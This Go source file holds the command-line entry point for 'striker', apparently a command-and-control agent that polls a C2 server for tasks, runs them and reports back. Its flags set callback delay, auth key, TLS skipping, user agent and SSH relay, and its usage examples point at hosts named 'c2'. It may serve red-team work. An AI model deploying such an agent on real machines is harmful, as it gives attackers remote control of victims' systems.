// Package cmd wires up the CLI flags and dispatches to the agent core.
package cmd

import (
	"context"
	"fmt"
	"os"
	"strings"

	flag "github.com/spf13/pflag"

	"striker/config"
	"striker/internal/core"
	"striker/util"
)

// version is overridable at link time:
//
//	go build -ldflags "-X striker/cmd.version=2.0.0"
var version = "1.0.0" //nolint:gochecknoglobals

// Execute resolves the configuration and runs the agent until it is
// aborted or ctx ends.  Precedence: flags, then STRIKER_* environment,
// then stamped values, then defaults.
func Execute(ctx context.Context, args []string) error {
	cfg := config.Defaults()
	if err := applyStamped(cfg); err != nil {
		return err
	}
	config.LoadFromEnv(cfg)

	fs := flag.NewFlagSet("striker", flag.ContinueOnError)

	// ── server ───────────────────────────────────────────────────
	fs.StringVarP(&cfg.BaseURL, "url", "u", cfg.BaseURL, "Server base URL")
	fs.StringVarP(&cfg.AuthKey, "key", "k", cfg.AuthKey, "Authentication key sent at check-in")
	fs.IntVarP(&cfg.Delay, "delay", "d", cfg.Delay, "Callback delay in seconds")
	fs.StringVar(&cfg.Codec, "codec", cfg.Codec, "Wire format: json or cbor")
	fs.BoolVar(&cfg.InsecureTLS, "insecure", cfg.InsecureTLS, "Skip TLS certificate verification")
	fs.StringVar(&cfg.UserAgent, "user-agent", cfg.UserAgent, "HTTP User-Agent")

	// ── tasks ────────────────────────────────────────────────────
	fs.StringVarP(&cfg.WriteDir, "write-dir", "w", cfg.WriteDir, "Directory for received files (default: temp dir)")
	fs.IntVar(&cfg.MaxTasks, "max-tasks", cfg.MaxTasks, "Maximum pending tasks")
	fs.IntVar(&cfg.MaxContactFails, "max-contact-fails", cfg.MaxContactFails, "Failed exchanges before failover")

	// ── SSH gateway ──────────────────────────────────────────────
	fs.StringVarP(&cfg.Gateway, "gateway", "g", cfg.Gateway, "Route relay dials via SSH [user@]host[:port]")
	fs.StringVar(&cfg.GatewayKey, "gateway-key", cfg.GatewayKey, "SSH private key file for the gateway")
	fs.BoolVar(&cfg.GatewayAgent, "ssh-agent", cfg.GatewayAgent, "Use SSH agent for the gateway")
	fs.BoolVar(&cfg.StrictHostKey, "strict-hostkey", cfg.StrictHostKey, "Verify the gateway host key")
	fs.StringVar(&cfg.GatewayKnownHosts, "known-hosts", cfg.GatewayKnownHosts, "Custom known_hosts path")

	// ── output ───────────────────────────────────────────────────
	fs.CountVarP(&cfg.Verbose, "verbose", "v", "Increase verbosity (repeatable)")

	var showVersion, showHelp, dryRun bool
	fs.BoolVar(&showVersion, "version", false, "Print version and exit")
	fs.BoolVarP(&showHelp, "help", "h", false, "Show this help")
	fs.BoolVar(&dryRun, "dry-run", false, "Validate the configuration and exit")

	fs.Usage = func() { printUsage(fs) }

	// ── parse ────────────────────────────────────────────────────
	if err := fs.Parse(args); err != nil {
		return err
	}

	if showHelp {
		printUsage(fs)
		return nil
	}
	if showVersion {
		fmt.Printf("striker %s\n", version)
		return nil
	}
	if fs.NArg() > 0 {
		return fmt.Errorf("unexpected arguments: %s", strings.Join(fs.Args(), " "))
	}
	cfg.Codec = strings.ToLower(cfg.Codec)

	// ── validate ─────────────────────────────────────────────────
	if err := cfg.ApplyGateway(); err != nil {
		return err
	}
	if err := cfg.Validate(); err != nil {
		return err
	}
	if dryRun {
		printConfig(cfg)
		return nil
	}

	// ── build and run ────────────────────────────────────────────
	logger := util.NewLogger(cfg.Verbose)
	mode, err := core.Build(ctx, cfg, logger)
	if err != nil {
		return err
	}
	return mode.Run(ctx)
}

// ── helpers ──────────────────────────────────────────────────────────

func printConfig(cfg *config.Config) {
	gateway := "none"
	if cfg.GatewayEnabled {
		gateway = fmt.Sprintf("%s@%s:%d", cfg.GatewayUser, cfg.GatewayHost, cfg.GatewayPort)
	}
	fmt.Fprintf(os.Stderr, "url=%s delay=%ds codec=%s gateway=%s max-tasks=%d\n",
		cfg.BaseURL, cfg.Delay, cfg.Codec, gateway, cfg.MaxTasks)
}

func printUsage(fs *flag.FlagSet) {
	fmt.Fprintf(os.Stderr, `striker agent v%s

Polls a command server for tasks, runs them and reports the results.

Usage:
  striker [options]

Options:
`, version)
	fs.PrintDefaults()
	fmt.Fprintf(os.Stderr, `
Environment:
  STRIKER_URL, STRIKER_KEY, STRIKER_DELAY, STRIKER_CODEC, STRIKER_GATEWAY, ...

Examples:
  striker -u http://10.0.0.5:8080 -k s3cret     Connect with a 10s callback
  striker -u https://c2:8443 --insecure -d 30   Self-signed TLS, 30s callback
  striker -u http://c2 -g ops@jump:22           Relay dials through SSH
`)
}
